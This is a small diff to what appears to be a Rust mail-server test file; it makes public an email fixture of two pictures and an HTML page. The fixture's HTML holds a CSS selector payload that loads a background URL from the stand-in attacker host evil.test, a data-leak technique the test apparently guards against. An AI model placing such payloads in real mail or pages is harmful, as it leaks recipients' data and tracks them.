@@ -14,7 +14,7 @@ use crate::support::process::Plan;
 use crate::support::{Api, PATIENCE, TestServer, message, until};
 
 /// Two pictures, and a page that shows the first.
-const PICTURES: &str = "From: a@b.test\r\nTo: own@mailroom.test\r\nSubject: pictures\r\nMIME-Version: 1.0\r\n\
+pub const PICTURES: &str = "From: a@b.test\r\nTo: own@mailroom.test\r\nSubject: pictures\r\nMIME-Version: 1.0\r\n\
     Content-Type: multipart/related; boundary=x\r\n\r\n--x\r\nContent-Type: text/html\r\n\r\n\
     <style>img[src*=\"ab\"]~p{background:url(http://evil.test/ab)}</style><img src=\"cid:one\"><p>text</p>\r\n\
     --x\r\nContent-Type: image/png\r\nContent-ID: <one>\r\nContent-Transfer-Encoding: base64\r\n\r\niVBORw0KGgo=\r\n\
